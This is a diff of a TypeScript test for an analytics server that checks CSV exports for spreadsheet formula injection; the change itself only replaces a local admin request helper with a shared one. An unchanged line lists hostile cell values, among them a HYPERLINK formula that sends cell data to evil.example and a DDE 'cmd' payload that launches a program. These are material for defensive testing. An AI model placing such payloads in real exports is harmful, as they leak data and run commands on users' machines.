@@ -10,7 +10,7 @@ import { rollupDay } from '../../server/rollup/rollup.ts'
 import { addDays, dayOf } from '../../server/time.ts'
 import { csvRecords } from '../helpers/csv.ts'
 import { asnMmdbOfQuarters } from '../helpers/mmdb.ts'
-import { API_KEY, query, sendEvent, startInProcess, tempDir, type RunningSkaits } from '../helpers/skaits.ts'
+import { adminCall, query, sendEvent, startInProcess, tempDir, type RunningSkaits } from '../helpers/skaits.ts'
 
 const HOSTILE: [string, string, string, string] = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1)']
 /** One network per hostile value: the test ISP database names the IPv4 quarters. */
@@ -23,14 +23,7 @@ const FORMULA = /^[=+\-@\t\r]/
 const dataDir = tempDir()
 let server: RunningSkaits
 
-async function admin(method: string, url: string, body?: unknown) {
-  const res = await fetch(server.url + url, {
-    method,
-    headers: { authorization: `Bearer ${API_KEY}`, 'content-type': 'application/json' },
-    body: body === undefined ? undefined : JSON.stringify(body),
-  })
-  return { status: res.status, json: (await res.json()) as any }
-}
+const admin = (method: string, path: string, body?: unknown) => adminCall(server.url, method, path, body)
 
 async function visit(value: string, ip: string): Promise<void> {
   const tag = encodeURIComponent(value)
